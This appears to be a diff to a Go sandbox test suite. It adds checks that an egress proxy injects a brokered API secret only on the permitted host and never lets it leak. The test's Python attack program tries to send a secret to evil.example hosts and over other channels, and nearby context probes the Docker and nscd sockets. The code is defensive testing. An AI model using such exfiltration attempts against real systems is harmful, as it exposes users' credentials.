@@ -3,6 +3,7 @@ package sandboxtest
 import (
 	"context"
 	"crypto/x509"
+	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
@@ -29,6 +30,9 @@ import (
 // reached is the one host that may be asked, under /v1/.
 const reached = "example.com"
 
+// brokered is a secret of the rule for it, which no program has.
+const brokered = "the-brokered-value-0123456789"
+
 // outside is what is behind the way out of all rows.
 type outside struct {
 	proxy         *egress.Proxy
@@ -36,13 +40,14 @@ type outside struct {
 	plain, secure string // ports
 	attacks       []egresstest.Attack
 
-	mu      sync.Mutex // guards what follows
-	arrived int        // requests, at the servers
-	astray  []string   // those that none of the rules lets through
-	allowed int        // on record
-	refused map[string]int
-	places  []string      // that were refused
-	second  chan struct{} // closed when the second request for events is there
+	mu       sync.Mutex // guards what follows
+	arrived  int        // requests, at the servers
+	brokered int        // of those, with the secret where it belongs
+	astray   []string   // those that none of the rules lets through
+	allowed  int        // on record
+	refused  map[string]int
+	places   []string      // that were refused
+	second   chan struct{} // closed when the second request for events is there
 }
 
 func newOutside(t *testing.T) *outside {
@@ -67,7 +72,7 @@ func newOutside(t *testing.T) *outside {
 		t.Fatal(err)
 	}
 	limits := egress.Limits{Requests: 1 << 20, Connections: 1 << 10, Sent: 1 << 30, Received: 1 << 30}
-	if o.proxy, err = egress.New(egress.Options{Rules: []egress.Rule{rule}, Roots: roots, Limits: limits}); err != nil {
+	if o.proxy, err = egress.New(egress.Options{Rules: []egress.Rule{rule}, Secrets: []egress.Secret{{Name: "KEY", Value: brokered, Rule: "api"}}, Roots: roots, Limits: limits}); err != nil {
 		t.Fatal(err)
 	}
 	if o.outlet, err = o.proxy.Open(egress.Run{Record: o.record}); err != nil {
@@ -83,8 +88,27 @@ func (o *outside) serve(w http.ResponseWriter, r *http.Request) {
 	if !strings.HasPrefix(r.Host, reached+":") || !strings.HasPrefix(r.URL.Path, "/v1/") {
 		o.astray = append(o.astray, r.Host+r.URL.Path)
 	}
+	right := r.Header.Get("Authorization") == "Bearer "+brokered && r.TLS != nil
+	if right {
+		o.brokered++
+		r.Header.Del("Authorization")
+	}
+	if strings.Contains(fmt.Sprint(r.URL, r.Header), brokered) {
+		o.astray = append(o.astray, "the value of a secret")
+	}
 	o.mu.Unlock()
 	switch r.URL.Path {
+	case "/v1/echo": // what it was sent, in several ways
+		text := "Bearer " + brokered
+		if !right {
+			text = "nothing"
+		}
+		w.Header().Set("X-Echo", text)
+		for _, b := range []byte(text) {
+			_, _ = w.Write([]byte{b})
+			w.(http.Flusher).Flush()
+		}
+		fmt.Fprintln(w, "", text, base64.StdEncoding.EncodeToString([]byte(text)), hex.EncodeToString([]byte(text)))
 	case "/v1/big":
 		_, _ = w.Write(make([]byte, 4<<20))
 	case "/v1/endless":
@@ -203,6 +227,9 @@ func (o *outside) judge(t *testing.T, way Way) {
 	o.mu.Lock()
 	defer o.mu.Unlock()
 	t.Log(o.refused)
+	if o.brokered == 0 {
+		t.Error("the secret is not put in")
+	}
 	if len(o.astray) > 0 {
 		t.Errorf("arrived where it may not: %q", o.astray)
 	}
@@ -383,6 +410,35 @@ for name in ("\0" + sys.argv[4], "/run/docker.sock", "/var/run/nscd/socket"):
         print("connected to", name)
     except OSError:
         pass`),
+		python("a secret", `
+KEY, VALUE = "SENTINEL", "BACKWARDS"[::-1]
+def send(to, data=None, **headers):
+    try:
+        with urllib.request.urlopen(urllib.request.Request(to, data=data, headers=headers), timeout=300) as r:
+            return r.status, r.read().decode() + str(r.headers)
+    except urllib.error.HTTPError as e:
+        return e.code, e.read().decode() + str(e.headers)
+import base64
+code, text = send(url("/v1/echo", "https"), Authorization="Bearer " + KEY)
+if code != 200 or "Bearer " + KEY not in text:
+    print("where it belongs", code, text)
+for form in (VALUE, base64.b64encode(b"Bearer " + VALUE.encode()).decode()[10:30], VALUE.encode().hex()):
+    if form in text:
+        print("it came back as", form)
+for to, headers in (
+    (url("/v1/echo"), {"Authorization": "Bearer " + KEY}),
+    (url("/v1/echo", "https"), {"Cookie": KEY}),
+    (url("/v1/echo", "https"), {"Authorization": "Bearer " + KEY, "Range": "bytes=0-3"}),
+    (url("/v1/echo", "https") + "?k=" + KEY, {}),
+    (url("/v1/", "https") + KEY, {}),
+    (url("/admin", "https"), {"Authorization": "Bearer " + KEY}),
+    ("https://evil.example/", {"Authorization": "Bearer " + KEY}),
+    ("http://" + KEY + ".evil.example/", {}),
+):
+    if (got := send(to, **headers))[0] != 403:
+        print(to, headers, got)
+if (got := send(url("/v1/upload", "https"), KEY.encode()))[0] != 200:
+    print("in a body", got)`),
 		python("its own servers", `
 import threading
 with socket.create_server(("127.0.0.1", 8080)) as server:
@@ -524,7 +580,9 @@ works()`))
 
 // filled is code with the ports of the servers.
 func (o *outside) filled(code string) string {
-	return strings.NewReplacer("PORT_PLAIN", o.plain, "PORT_SECURE", o.secure).Replace(code)
+	backwards := []byte(brokered)
+	slices.Reverse(backwards)
+	return strings.NewReplacer("PORT_PLAIN", o.plain, "PORT_SECURE", o.secure, "SENTINEL", o.proxy.Sentinels()["KEY"], "BACKWARDS", string(backwards)).Replace(code)
 }
 
 // attacksIn is a program that makes the attacks.
